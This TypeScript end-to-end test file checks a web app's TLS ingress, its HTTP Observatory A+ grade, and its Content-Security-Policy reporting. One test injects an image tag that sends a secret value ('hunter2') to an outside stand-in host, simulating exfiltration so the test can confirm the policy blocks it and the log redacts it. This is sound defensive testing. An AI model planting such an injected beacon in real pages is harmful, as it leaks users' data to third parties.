import { once } from 'node:events';
import { rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest';
import { chromium } from '@web/client/test/browser/chromium';
import { startStack, type Stack } from './compose.ts';
import { makeAuthority, type Authority } from '../ingress/certificate-authority.ts';
import { startProxy, type Ingress } from '../ingress/start-proxy.ts';
import { fetchObservatory, observe } from './observatory.ts';
import { isShown, visit } from '@web/client/test/browser/visit';

let stack: Stack;
let authority: Authority;
let ingress: Ingress;
/** Plain HTTP redirects to TLS, as an ingress would do. */
let redirect: Server;

beforeAll(async () => {
  stack = await startStack({
    name: 'web-e2e-tls',
    subnet: '172.30.95.0/24',
    env: { HSTS_SECONDS: '31536000', TRUSTED_PROXIES: '172.30.95.1' },
    testCalls: false,
  });
  authority = await makeAuthority();
  ingress = await startProxy('nginx', 'preserving', { upstreamPort: stack.port, authority });
  redirect = createServer(({ url }, reply) =>
    reply.writeHead(301, { location: `https://localhost:${ingress.port}${url}` }).end(),
  ).listen(0);
  await once(redirect, 'listening');
});

afterAll(async () => {
  redirect?.close();
  await ingress?.stop();
  await authority?.remove();
  await stack?.stop();
});

test("MDN's HTTP Observatory grades A+, with no failed test", async () => {
  const { port: httpPort } = redirect.address() as AddressInfo;
  const folder = await fetchObservatory();
  onTestFinished(() => rm(folder, { recursive: true }));
  const report = await observe(folder, {
    host: 'localhost',
    httpPort,
    httpsPort: ingress.port,
    path: '/web/',
  });
  expect(report).toMatchObject({ grade: 'A+', failed: [] });
  expect(report.score).toBeGreaterThanOrEqual(100);
  expect(report.passed).toContain('hsts-implemented-max-age-at-least-six-months');
  expect(report.passed).toContain('csp-implemented-with-no-unsafe');
  expect(report.passed).toContain('redirection-to-https');
});

test('a browser reports a violation of the policy, and the BFF logs it', async () => {
  const browser = await chromium(
    '--short-reporting-delay',
    `--ignore-certificate-errors-spki-list=${authority.spki}`,
  );
  try {
    const origin = `https://localhost:${ingress.port}`;
    const { page, problems } = await visit(browser, origin);
    await page.goto(`${origin}/web/?mail=hunter2`);
    await isShown(page);
    expect(problems()).toEqual([]);
    await page.evaluate(() => {
      document.body.appendChild(document.createElement('img')).src = 'https://elsewhere.example/x?y=hunter2';
    });
    const lines = await vi.waitFor(
      async () => {
        const log = await stack.compose('logs', '--no-log-prefix', 'bff');
        const found = log.split('\n').filter((line) => line.includes('client report'));
        expect(found).toHaveLength(1);
        return found;
      },
      { timeout: 20_000, interval: 500 },
    );
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({
      kind: 'policy',
      directive: 'img-src',
      blocked: 'https://elsewhere.example/x',
      screen: '/web/',
      build: expect.any(String),
    });
    expect(lines.join()).not.toContain('hunter2');
  } finally {
    await browser.close();
  }
});
